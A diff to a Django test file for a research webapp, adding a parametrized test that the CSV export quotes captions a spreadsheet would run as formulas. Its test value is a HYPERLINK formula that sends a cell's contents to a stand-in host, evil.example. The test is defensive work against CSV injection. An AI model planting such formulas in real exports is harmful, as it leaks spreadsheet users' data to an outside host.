@@ -15,7 +15,7 @@ from tests.webapp.research_support import fill_study, researcher_of
 from webapp.research import exports, selectors, services
 from webapp.research.exports import worker_id_hash
 from webapp.studies import lifecycle as study_lifecycle
-from webapp.studies.models import CountResponse, Evaluator, Image, Item, RankResponse
+from webapp.studies.models import CountResponse, Evaluator, Image, Item, Prompt, RankResponse
 
 pytestmark = pytest.mark.django_db
 
@@ -100,6 +100,21 @@ def test_count_rows_carry_the_answer_or_cant_tell_and_the_automatic_count(study)
         assert r["auto_count"] == "7" and r["skipped"] == "0"
         assert r["true_count"] == str(item.true_count) and r["variant"] == present(item.variant).name
         assert float(r["seconds"]) == resp.seconds
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_csv_writes_no_caption_as_a_formula(study, first):
+    """A caption may come from an outside dataset: one a spreadsheet would run as a formula
+    gets a quote in front, in the CSV and in the table read from the same rows."""
+    formula = first + 'HYPERLINK("http://evil.example/?"&A2,"click")'
+    Prompt.objects.filter(study=study, pk=Item.objects.filter(study=study, task="rank").values("prompt")[:1]).update(
+        text=formula)
+    fill_study(study, 1)
+    rows = read_csv("".join(exports.csv_chunks(study=study)))
+    prompts = {r["prompt"] for r in rows}
+    assert "'" + formula in prompts and formula not in prompts
+    assert all(not p.startswith(exports.FORMULA_STARTS) for p in prompts)
+    assert "'" + formula in set(exports.response_table(study=study)["prompt"])
 
 
 def test_jsonl_hashes_worker_ids_with_the_salt_and_never_writes_them(study, settings):
